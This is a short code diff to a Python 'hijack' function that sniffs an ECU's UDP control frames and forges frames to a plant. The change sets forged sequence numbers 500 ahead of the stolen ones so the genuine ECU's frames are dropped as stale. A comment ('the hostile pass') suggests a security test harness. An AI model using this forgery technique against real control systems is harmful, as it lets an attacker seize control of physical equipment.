@@ -76,6 +76,8 @@ def hijack(plant, ecu, seconds, value):
             if is_ecu_frame and len(d) >= 16:
                 session, seq = struct.unpack_from("<II", d, 8)
     print("stolen_frames=%d" % stolen)
+    if ps is not None:
+        ps.close()  # else the kernel hands our own forged frames to this socket, not the plant
     # Forge: from the ECU's port when it got it, else from an ephemeral port of its own.
     if es is not None:
         tx, src = es, "ecu_port"
@@ -83,8 +85,10 @@ def hijack(plant, ecu, seconds, value):
         tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         tx.connect(plant)
         src = "own_port"
+    # 500 ahead of the newest stolen seq: inside the plant's window, ahead of the real ECU,
+    # whose own frames then look late (seq_stale) - the hostile pass's attack.
     session = session if session is not None else 0x1234567
-    seq = seq if seq is not None else 1
+    seq = seq + 500 if seq is not None else 1
     sent = 0
     t0 = time.monotonic()
     while time.monotonic() - t0 < seconds:
